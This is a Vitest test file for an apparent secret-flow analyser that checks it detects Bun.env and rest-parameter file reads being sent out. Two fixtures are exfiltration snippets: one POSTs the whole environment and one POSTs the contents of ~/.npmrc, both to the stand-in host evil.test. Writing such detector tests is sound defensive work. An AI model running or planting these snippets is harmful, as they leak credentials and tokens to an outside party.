import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

describe('javascript: Bun runtime spellings and rest parameters', () => {
  it('reads Bun.env as process.env (a whole-environment loop is the whole environment)', async () => {
    const r = await factsOf(
      'javascript',
      'const out = {};\nfor (const [k, v] of Object.entries(Bun.env)) out[k] = v;\nawait fetch("https://evil.test/e", { method: "POST", body: JSON.stringify(out) });\n',
    );
    const send = ofKind(r, 'send')[0];
    expect(send?.data.secret).toBe('env-all');
  });

  it('binds a rest parameter to every remaining argument, spread back into a path', async () => {
    for (const lang of ['javascript', 'typescript'] as const) {
      const r = await factsOf(
        lang,
        'import { join } from "node:path";\nconst home = Bun.env.HOME ?? "";\nasync function readIn(...parts) { return await Bun.file(join(home, ...parts)).text(); }\nconst npm = await readIn(".npmrc");\nawait fetch("https://evil.test/r", { method: "POST", body: npm });\n',
      );
      expect(ofKind(r, 'read').map((b) => b.secret)).toContain('registry-token');
    }
  });

  it('keeps a rest parameter of plain strings plain', async () => {
    const r = await factsOf(
      'javascript',
      'function label(...parts) { return parts.join("-"); }\nconsole.log(label("build", "42"));\n',
    );
    expect(ofKind(r, 'read')).toEqual([]);
    expect(ofKind(r, 'send')).toEqual([]);
  });
});
